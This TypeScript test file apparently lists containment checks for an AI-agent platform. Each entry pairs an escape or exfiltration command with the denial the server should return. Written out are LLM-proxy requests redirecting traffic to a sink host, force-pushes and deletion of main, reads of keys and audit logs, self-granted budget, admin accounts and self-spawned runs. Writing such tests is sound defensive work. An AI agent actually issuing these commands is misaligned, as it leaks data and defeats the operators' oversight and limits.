import { type Attempt, shell } from "./attempt.ts";

const CHAT = "/llm-proxy/v1/chat/completions";
const asks = (more: string, model = "scripted-model", said = "hi") =>
  `'{"model":"${model}","max_tokens":5,"messages":[{"role":"user","content":"${said}"}]${more}}'`;
const NOT_THERE = /HTTP\/1\.1 404[\s\S]*not open to a run/;
/** Git says it differently by version; all of it comes from a 401, 403 or 404 of the broker. */
const NO_GIT = /Authentication failed|could not read Password|returned error: 40[134]|not found/i;
const push = (refspec: string, run = "$AGENT_RUN_ID") => `timeout 60 git push $(remote ${run}) ${refspec}`;

/** The run's own token, used on everything that the server has (PI-01, PI-02, LB-01, LB-02, LB-16, GB-01, RT-07, WB-02). */
export const BROKER_ATTEMPTS: readonly Attempt[] = [
  shell("overstep", "another model", `ask POST ${CHAT} ${asks("", "expensive")}`, /HTTP\/1\.1 403/),
  shell(
    "exfil",
    "the model at another address, said in the body",
    `ask POST ${CHAT} ${asks(',"api_base":"http://{gateway}:{sinkPort}","base_url":"http://{gateway}:{sinkPort}"')}`,
    /HTTP\/1\.1 400/,
  ),
  shell(
    "exfil",
    "the model at another address, said in a header",
    `ask POST ${CHAT} ${asks("", "scripted-model", "hostile:victim")} "$WS_TOKEN" $'X-Portkey-Custom-Host: http://{gateway}:{sinkPort}\\r\\nX-Forwarded-Host: {gateway}:{sinkPort}'`,
    /HTTP\/1\.1 200[\s\S]*listening/,
  ),
  shell(
    "exfil",
    "a tool of the provider that fetches pages",
    `ask POST ${CHAT} ${asks(',"tools":[{"type":"web_search","url":"http://{gateway}:{sinkPort}"}]')}`,
    /HTTP\/1\.1 400/,
  ),
  shell(
    "exfil",
    "a picture that the provider is to fetch",
    `ask POST ${CHAT} '{"model":"scripted-model","max_tokens":5,"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://{gateway}:{sinkPort}/loot"}}]}]}'`,
    /HTTP\/1\.1 400/,
  ),
  shell(
    "overstep",
    "another route of the provider",
    "ask POST /llm-proxy/v1/files '{}'; ask GET /llm-proxy/../v1/connections/1",
    /HTTP\/1\.1 404[\s\S]*HTTP\/1\.1 404/,
  ),
  shell(
    "overstep",
    "a token made up",
    `ask POST ${CHAT} ${asks("")} wsrun_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA`,
    /HTTP\/1\.1 401/,
  ),
  shell(
    "exfil",
    "the repository by git with the agent's token",
    "git ls-remote $(remote $AGENT_RUN_ID)",
    NO_GIT,
  ),
  shell("exfil", "the repository of another run", "git ls-remote $(remote {otherRun})", NO_GIT),
  shell("overstep", "a push to main", push("HEAD:refs/heads/main"), NO_GIT),
  shell("overstep", "a forced push to main", push("--force HEAD:refs/heads/main"), NO_GIT),
  shell("overstep", "a delete of main", push("--delete refs/heads/main"), NO_GIT),
  shell("overstep", "a push of a tag", push("HEAD:refs/tags/v9"), NO_GIT),
  shell(
    "overstep",
    "a push to another run's branch",
    push("HEAD:refs/heads/agent-runs/run-{otherRun}", "{otherRun}"),
    NO_GIT,
  ),
  shell(
    "overstep",
    "a push straight to the forge",
    "timeout 60 git push http://{gateway}:{forgePort}/acme/shop.git HEAD:refs/heads/main",
    /Failed to connect|Couldn't connect|Connection refused|unable to access/,
  ),
  shell("overstep", "the jobs of runners", "ask POST /runner/claim?wait=0s '{}'", /HTTP\/1\.1 401/),
  shell(
    "overstep",
    "a runner of its own",
    `ask POST /runner/register '{"registration_token":"wsrt_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA","name":"x","nonce":"0123456789abcdef0123456789abcdef"}'`,
    /HTTP\/1\.1 40[013]/,
  ),
  shell("overstep", "an administrator of its own", "ask POST /v1/admin/users '{}'", NOT_THERE),
  shell("exfil", "the connections with their keys", "ask GET /v1/workspaces/EVIL/connections", NOT_THERE),
  shell("exfil", "the audit log", "ask GET /v1/admin/audit", NOT_THERE),
  shell("exfil", "the transcript of another run", "ask GET /v1/agent-runs/{otherRun}/events", NOT_THERE),
  shell("exfil", "an item of another workspace", "ask GET /v1/items/{otherItem}", NOT_THERE),
  shell(
    "overstep",
    "another item of its own workspace",
    `ask PATCH /v1/items/{secondItem} '{"status":"done"}'`,
    NOT_THERE,
  ),
  shell(
    "overstep",
    "a skill for all runs to come",
    `ask POST /v1/workspaces/EVIL/skills '{"name":"x"}'`,
    NOT_THERE,
  ),
  shell(
    "overstep",
    "a larger budget",
    "ask POST /v1/agent-runs/$AGENT_RUN_ID/budget '{\"tokens\":1000000}'",
    NOT_THERE,
  ),
  shell("overstep", "the end of another run", "ask POST /v1/agent-runs/{otherRun}/cancel '{}'", NOT_THERE),
  shell(
    "overstep",
    "a second run of itself",
    "ask POST /v1/items/$WINDSHIFT_ITEM_KEY/agent-runs '{}'",
    NOT_THERE,
  ),
  shell("overstep", "an API token", `ask POST /v1/tokens '{"name":"x"}'`, NOT_THERE),
];
